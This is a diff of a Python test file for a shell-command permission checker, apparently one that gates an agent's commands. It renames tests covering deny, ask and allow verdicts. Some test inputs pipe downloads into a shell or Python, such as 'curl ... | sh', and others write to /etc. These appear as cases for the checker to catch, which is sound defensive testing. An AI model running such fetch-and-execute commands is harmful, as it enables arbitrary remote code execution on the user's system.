@@ -24,7 +24,7 @@ def verdicts(command: str) -> list[str | None]:
         "gh pr create",
     ],
 )
-def test_what_publishes_or_destroys_is_denied(command: str) -> None:
+def test_denies_commands_that_publish_or_destroy(command: str) -> None:
     assert verdicts(command) == ["deny"]
 
 
@@ -32,7 +32,7 @@ def test_what_publishes_or_destroys_is_denied(command: str) -> None:
     "wrapped",
     ["env A=1 git push", "timeout 5 git push", "sh -c 'git push'", "xargs -n 1 git push", "nohup git push &"],
 )
-def test_a_wrapper_hides_nothing(wrapped: str) -> None:
+def test_sees_through_wrapper_commands(wrapped: str) -> None:
     assert verdicts(wrapped)[-1] == "deny"
 
 
@@ -47,7 +47,7 @@ def test_a_wrapper_hides_nothing(wrapped: str) -> None:
         "cp a /etc/x",
     ],
 )
-def test_what_reaches_out_is_asked_about(command: str) -> None:
+def test_asks_about_commands_that_use_network(command: str) -> None:
     assert verdicts(command) == ["ask"]
 
 
@@ -55,7 +55,7 @@ def test_what_reaches_out_is_asked_about(command: str) -> None:
     "command",
     ["ls -la src", "cat a.py", "sed -n '1,20p' a.py", "git log --oneline -5", "git diff", "wc -l /repo/a.py"],
 )
-def test_inspections_are_allowed(command: str) -> None:
+def test_allows_read_only_commands(command: str) -> None:
     assert verdicts(command) == ["allow"]
 
 
@@ -84,21 +84,21 @@ def test_inspections_are_allowed(command: str) -> None:
         ),
     ],
 )
-def test_what_may_be_more_than_an_inspection_is_not_allowed_by_itself(command: str) -> None:
+def test_asks_when_command_may_do_more_than_read(command: str) -> None:
     assert verdicts(command) == [None]
 
 
-def test_a_program_of_the_project_is_no_inspection_whatever_it_is_called() -> None:
+def test_project_program_is_not_read_only_whatever_its_name() -> None:
     assert built_in(Run(names=("ls", "ls"), own=True), root="/repo") is None
 
 
-def test_what_is_fetched_must_not_be_fed_to_a_shell() -> None:
+def test_denies_piping_downloads_into_shell() -> None:
     assert feeds_a_shell(runs(parse("curl -s http://example.org/x | sh"))[0])
     assert feeds_a_shell(runs(parse("wget -qO- http://example.org/x | python3 -"))[0])
     assert not feeds_a_shell(runs(parse("curl -s http://example.org/x | wc -l"))[0])
 
 
-def test_a_rule_allows_just_the_arguments_it_names() -> None:
+def test_rule_allows_only_arguments_it_names() -> None:
     rule = written("make test", "allow")
     assert rule.fits(Run(names=("make",), arguments=("test",)))
     assert not rule.fits(Run(names=("make",), arguments=("test", "deploy")))
@@ -106,7 +106,7 @@ def test_a_rule_allows_just_the_arguments_it_names() -> None:
     assert written("make test *", "allow").fits(Run(names=("make",), arguments=("test", "-k")))
 
 
-def test_the_strictest_of_the_rules_decides() -> None:
+def test_strictest_rule_decides() -> None:
     run = Run(names=("make",), arguments=("deploy",))
     assert chosen([written("make *", "allow"), written("make deploy", "deny")], run) == written(
         "make deploy", "deny"
@@ -120,7 +120,7 @@ def test_a_rule_is_one_plain_command(text: str) -> None:
         written(text, "allow")
 
 
-def test_paths_that_lead_out_are_seen_in_options_too() -> None:
+def test_detects_outside_paths_in_options() -> None:
     assert [leads_out(text, "/repo") for text in ("/repo/a", "a/b", "/repository/a", "-I/etc", "--out=../x", "a/../../b", "~/x")] == [
         False, False, True, True, True, True, True,
     ]  # fmt: skip
